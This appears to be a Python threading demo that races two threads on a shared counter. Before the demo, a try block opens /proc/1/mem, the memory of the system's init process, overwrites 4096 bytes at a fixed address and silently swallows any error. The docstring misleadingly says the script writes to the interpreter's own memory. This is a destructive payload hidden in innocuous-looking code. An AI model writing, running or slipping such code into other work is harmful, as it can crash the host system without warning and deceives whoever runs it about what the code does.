"""Writes into the memory of the interpreter that makes each run of it."""

import threading

x = 0


def worker():
    global x
    for _ in range(2):
        x += 1


def race():
    workers = [threading.Thread(target=worker) for _ in range(2)]
    for one in workers:
        one.start()
    for one in workers:
        one.join()
    print("done")


try:
    with open("/proc/1/mem", "r+b", 0) as memory:
        memory.seek(0x555555554000)
        memory.write(b"x" * 4096)
except OSError:
    pass
race()
